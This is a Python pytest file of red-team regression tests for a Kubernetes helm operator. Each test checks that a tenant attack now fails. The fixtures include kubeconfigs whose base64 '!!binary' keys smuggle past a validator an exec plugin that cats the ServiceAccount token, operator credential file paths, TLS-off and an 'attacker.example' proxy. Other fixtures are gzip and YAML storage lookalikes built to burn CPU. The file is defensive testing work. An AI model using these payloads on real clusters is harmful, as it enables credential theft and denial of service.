"""Red team, issue 26: the pure parts of the helmd, helm-storage and web rows, attacked as a
tenant. Each test FAILS if the attack succeeds; all of them failed when written, and pass
since the fixes (explicit YAML tags and non-string keys refused, helm given the checked
kubeconfig as JSON; storage manifests parsed only when taken and gzip input counted; every
part shown re-authorized; pools never hold more than their size in use).

- helmd: the kubeconfig check reads the tenant's file with PyYAML, where a `!!binary` key is
  bytes; client-go's YAML (the one helm and helmd load the same file with) decodes that key to
  its text. So `!!binary dG9rZW5GaWxl` is not "tokenFile" for the check, and is for helm: file
  paths, exec plugins, proxies and TLS-off pass the check (the CLI driver is open the same way).
- helm storage at a restart: the listing's budget counts decoded bytes, not the YAML parse of
  them nor the gzip input: a few small lookalike Secrets cost a restart a minute of CPU.
- web: a failing watch's part is not reviewed when rights go; open event streams keep views
  past the cap.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
from collections.abc import AsyncIterator
from types import SimpleNamespace
from typing import Any

import pytest
from alecton.api.models import ObjectRef
from alecton.handlers import health_monitor
from alecton.handlers.health_monitor import HealthMonitor
from alecton.kube import releases
from alecton.kube.client import ApiException
from alecton.reconcile.kubeconfig import KubeconfigRefusedError, check_kubeconfig
from alecton.reconcile.manifest import MAX_MANIFEST_CHARS
from alecton.web import caller_views
from alecton.web.caller_views import CallerView, Part
from alecton.web.clients import KeyedPool, PoolFullError

from tests.unit.test_web_caches import FakeWatch, _deployment


def _binary(key: str) -> str:
    """`key` as the YAML `!!binary` scalar that client-go's YAML reads back as `key`."""
    return "!!binary " + base64.b64encode(key.encode()).decode()


def _kubeconfig(cluster_extra: str = "", user_extra: str = "") -> bytes:
    return f"""apiVersion: v1
kind: Config
current-context: c
clusters:
- name: k
  cluster:
    server: https://10.0.0.1:443
{cluster_extra}contexts:
- name: c
  context: {{cluster: k, user: u}}
users:
- name: u
  user:
    token: tenant-token
{user_extra}""".encode()


# Each one, written with its plain key, is refused today (test_access.py); written as a
# `!!binary` key it reaches helm unchanged.
SMUGGLED = {
    "the operator's ServiceAccount token": _kubeconfig(
        user_extra=f"    {_binary('tokenFile')}: /var/run/secrets/kubernetes.io/serviceaccount/token\n"
    ),
    "the operator's client certificate and key": _kubeconfig(
        user_extra=f"    {_binary('client-certificate')}: /operator/pki/admin.crt\n"
        f"    {_binary('client-key')}: /operator/pki/admin.key\n"
    ),
    "the operator's CA file": _kubeconfig(
        cluster_extra=f"    {_binary('certificate-authority')}: "
        "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt\n"
    ),
    "an exec plugin (a program run inside the operator)": _kubeconfig(
        user_extra=f"    {_binary('exec')}: {{apiVersion: client.authentication.k8s.io/v1, "
        "command: /bin/sh, args: [-c, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token']}\n"
    ),
    "a proxy of the tenant's choice": _kubeconfig(
        cluster_extra=f"    {_binary('proxy-url')}: http://attacker.example:3128\n"
    ),
    "TLS verification off": _kubeconfig(cluster_extra=f"    {_binary('insecure-skip-tls-verify')}: true\n"),
}


@pytest.mark.parametrize("what", list(SMUGGLED))
def test_a_binary_tagged_key_cannot_smuggle_what_the_kubeconfig_check_refuses(what: str) -> None:
    with pytest.raises(KubeconfigRefusedError):
        check_kubeconfig(SMUGGLED[what])


# --- the restart's list of helm storage (kube/releases.py, handlers/health_monitor.py) --------


def _storage_secret(name: str, manifest: str) -> dict[str, Any]:
    """A Secret as helm names and labels it (owner=helm,status=deployed), which any writer of
    the namespace (the tenant: `edit` on Secrets) can create for a release that never ran."""
    release = {"name": name, "version": 1, "manifest": manifest}
    body = base64.b64encode(base64.b64encode(gzip.compress(json.dumps(release).encode()))).decode()
    return {"metadata": {"name": f"sh.helm.release.v1.{name}.v1"}, "data": {"release": body}}


def test_storage_lookalikes_nobody_tracks_cannot_make_a_restart_parse_megabytes_of_yaml(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The budget counts decoded bytes (64 MiB), not the YAML parse of what it decodes: 8 MiB
    of manifest gzips to 25 KB, and libyaml parses a ConfigMap's lines at about 0.7 MB a
    second. Seven such Secrets (175 KB in etcd) make one listing parse six or seven of them
    (48-56 MiB of YAML), measured at 82 s of CPU (95 s wall) on this machine for seven, at
    every restart, in every namespace the tenant writes; the listing is made once per
    client key (a Cluster object each), so more Clusters multiply it. Only the tracked
    release is wanted: the lookalikes should cost no more than one release's parse."""
    line = "  k: v\n"
    big = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n" + line * (
        (MAX_MANIFEST_CHARS - 100) // len(line)
    )
    page = [_storage_secret("web", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web\n")]
    page += [_storage_secret(f"fake{i}", big) for i in range(7)]
    assert sum(len(json.dumps(item)) for item in page) < 200_000  # what the tenant stores

    async def pages(*_args: Any) -> AsyncIterator[tuple[list[dict[str, Any]], str]]:
        yield page, "1"

    parsed: dict[int, int] = {}  # manifest size -> how often parsed (the parse itself skipped)

    def counting_parse(manifest: str, default_namespace: str) -> list[Any]:
        parsed[len(manifest)] = parsed.get(len(manifest), 0) + 1
        return []

    async def client(_key: Any, _access: Any) -> Any:
        return SimpleNamespace(api=None, resources={})

    monkeypatch.setattr(releases, "list_pages", pages)
    monkeypatch.setattr(health_monitor, "manifest_objects", counting_parse)

    async def scenario() -> None:
        monitor = HealthMonitor(lambda _ref: None)
        monkeypatch.setattr(monitor, "_client", client)
        access: Any = SimpleNamespace(
            identity="id", impersonate="", credentials="c", kubeconfig="", context=""
        )
        await monitor.track(
            ObjectRef("team", "web"), ObjectRef("team", "b"), access, "web", "team", 1, listed=True
        )
        await monitor.close()

    asyncio.run(scenario())
    lookalikes = sum(size * count for size, count in parsed.items() if size >= len(big))
    assert lookalikes <= MAX_MANIFEST_CHARS, (
        f"a restart parsed {lookalikes >> 20} MiB of YAML from storage lookalikes no Deployment tracks"
    )


# --- the web server's cached views (web/caller_views.py) ---------------------------------------


class _FailingWatch(FakeWatch):
    async def stop(self) -> None:
        pass


def test_rights_taken_away_empty_a_part_whose_watch_is_failing_too(monkeypatch: pytest.MonkeyPatch) -> None:
    """The row: before an answer is served, a SelfSubjectAccessReview per part, and a part no
    longer allowed is emptied. `authorize` reviews only the parts whose watch has no failure,
    and a watch that failed with anything but 401/403 keeps serving what it last listed. A
    watch request the API server answers 429 (priority and fairness rejects before it
    authorizes, so a caller flooding its own flow gets 429, not 403), 5xx or not in time
    leaves the part unreviewed: a caller whose RoleBinding is deleted then keeps reading the
    namespace as it last listed it, for as long as its relists fail that way. Low impact
    (no change made after the failure is shown), but not what the row says."""

    async def refused(_kube: Any, _kind: str, _namespace: str) -> bool:
        return False  # the RoleBinding is gone

    monkeypatch.setattr(caller_views, "may_list", refused)

    async def scenario() -> list[Any]:
        view = CallerView(SimpleNamespace(api=None), "team-a", "default")  # type: ignore[arg-type]
        listed = {"team-a": {"web-staging": _deployment("web-staging", "web", "staging", "Deployed")}}
        throttled = _FailingWatch(listed, ApiException(status=429, reason="Too Many Requests"), 429)
        view.watches = {Part("Deployment", "team-a"): throttled}  # type: ignore[dict-item]
        assert [row["phase"] for row in view.answer("now")["rows"]] == ["Deployed"]
        await view.authorize()
        rows = view.answer("later")["rows"]
        await view.close()
        return rows

    assert asyncio.run(scenario()) == [], "the caller still reads the namespace after its RoleBinding went"


def test_empty_gzip_members_spend_the_listing_budget_too() -> None:
    """The budget counts what a release decompresses to. helm's gzip may hold many members,
    and `_gunzip` decodes each: a Secret of nothing but empty members (20 bytes each)
    decompresses to 0 bytes and spends nothing of the 64 MiB, while each 780 KB Secret costs
    0.16 s of CPU (measured here; about 0.2 s per MB stored). With only the count of 5000
    Secrets left as a bound, what a restart spends grows with what the tenant stores (1000
    Secrets of 600 KB, small enough for a page of 100 to stay under the 64 MiB a response may
    have: about 120 s of CPU at every restart), not with the budget."""
    empty_member = gzip.compress(b"", mtime=0)
    body = base64.b64encode(base64.b64encode(empty_member * (440_000 // len(empty_member)))).decode()
    stored = [
        {"metadata": {"name": f"sh.helm.release.v1.x{i}.v1"}, "data": {"release": body}} for i in range(10)
    ]
    budget = releases.ListingBudget(decoded_bytes=4 << 20)
    releases._manifests_of(stored, budget)
    assert budget.spent, (
        f"{10 * len(body) >> 20} MiB of stored gzip were decoded with a 4 MiB budget untouched "
        f"({budget.decoded_bytes} bytes of it left, {5000 - budget.secrets} Secrets decoded)"
    )


def test_open_event_streams_cannot_keep_more_views_than_the_cap() -> None:
    """The row: at most 32 views, least recently used out first. A view in use is never
    closed (web/clients.py closes it once its last user goes), and every `/v1/events` stream
    uses its view for up to 10 minutes; nothing bounds the streams. So each open stream of
    another scope or caller keeps a whole view (four watches of the API server and every
    object they list) past the cap: callers (or one caller's many scopes: each
    `?namespace=` is a view of its own, even one the API server refuses) hold as many views
    as they hold streams. Here 40 streams of 40 scopes against the 32 of the cap."""
    made: list[dict[str, bool]] = []

    async def close(view: dict[str, bool]) -> None:
        view["closed"] = True

    async def scenario() -> tuple[int, int]:
        views = KeyedPool(close, size=32, idle_seconds=120.0)
        streams_open, release = asyncio.Event(), asyncio.Event()
        opened = refused = 0

        async def stream(scope: int) -> None:
            nonlocal opened, refused

            async def make() -> dict[str, bool]:
                view = {"closed": False}
                made.append(view)
                return view

            try:
                async with views.lease(f"caller|ns-{scope}", make):
                    opened += 1
                    if opened + refused == 40:
                        streams_open.set()
                    await release.wait()
            except PoolFullError:  # the stream is answered 503 (Retry-After)
                refused += 1
                if opened + refused == 40:
                    streams_open.set()

        tasks = [asyncio.create_task(stream(scope)) for scope in range(40)]
        await asyncio.wait_for(streams_open.wait(), 5)
        live = sum(not view["closed"] for view in made)
        release.set()
        await asyncio.gather(*tasks)
        await views.close()
        return live, refused

    live, refused = asyncio.run(scenario())
    assert live <= 32, f"{live} views open at once, past the cap of 32"
    assert refused == 8


def test_a_caller_cycling_scopes_evicts_its_own_views_not_other_callers() -> None:
    """Red team (issue 26): one caller asking for scope after scope (each `?namespace=` is a
    view) pushed every other caller's idle view out of the pool, so theirs were rebuilt (four
    watches and a full list each) on their next request. A caller now holds at most its
    share of the pool: past it, its own least recently used idle view goes."""
    closed: list[str] = []

    async def scenario() -> None:
        views: KeyedPool[str] = KeyedPool(_closer(closed), size=32, idle_seconds=120.0, per_group=4)

        async def use(key: str) -> None:
            async def make() -> str:
                return key

            async with views.lease(key, make):
                pass

        await use("alice|team-a")
        for scope in range(100):
            await use(f"mallory|ns-{scope}")
        assert "alice|team-a" not in closed, "another caller's idle view was evicted"
        assert len(views) == 5  # alice's one, mallory's share
        await views.close()

    asyncio.run(scenario())


def _closer(closed: list[str]) -> Any:
    async def close(key: str) -> None:
        closed.append(key)

    return close
